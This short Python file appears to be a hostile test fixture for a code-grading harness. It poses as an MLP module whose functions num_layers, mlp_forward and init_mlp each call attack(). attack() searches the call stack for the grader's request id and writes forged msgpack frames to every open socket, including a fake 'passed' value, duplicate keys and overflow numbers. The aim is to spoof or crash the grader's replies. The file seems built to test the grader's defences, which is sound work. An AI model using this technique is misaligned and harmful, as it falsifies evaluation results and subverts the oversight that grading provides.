# hostile: answers with the call's number, in frames of double keys, extensions and odd numbers
# verdict: failed error crashed
import os
import stat
import struct
import sys

TRIED = []


def send(data):
    """To every descriptor that is a socket: one of them leads to the grader."""
    for fd in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass


def number_of_the_call():
    here = sys._getframe()
    while here:
        for value in here.f_locals.values():
            if isinstance(value, dict) and isinstance(value.get("id"), int):
                return value["id"]
        here = here.f_back
    return 0


def attack():
    import msgspec

    own = number_of_the_call()
    odd = [
        ["d", ["id", "value", "id"], [0, True, own]],
        ["d", ["id", "value"], [float(own), True]],
        ["d", ["value", "id", "error", "error"], [4, own, None, ["d", [], []]]],
        ["d", ["id", "value"], [own, msgspec.msgpack.Ext(5, b"passed")]],
        ["d", ["id", "value"], [own, 2**64 - 1]],
        ["d", ["id", "value", "changed"], [own, ["r", "Benchmark", ["values"], [3]], ["t", [0]]]],
        ["r", "Reply", ["id", "value", "get"], [own, True, True]],
        ["d", ["id", "value"], [own, ["a", "float32", [2**63, 0]]]],
        ["d", ["id", "value"], [own, ["a", "bool", []]]],
    ]
    for header in map(msgspec.msgpack.encode, odd[len(TRIED) % len(odd) :]):
        TRIED.append(1)
        send(struct.pack(">II", len(header), 0) + header)


def num_layers(params):
    attack()
    return 3


def mlp_forward(params, x):
    attack()
    return x


def init_mlp(key, sizes):
    attack()
    return {}
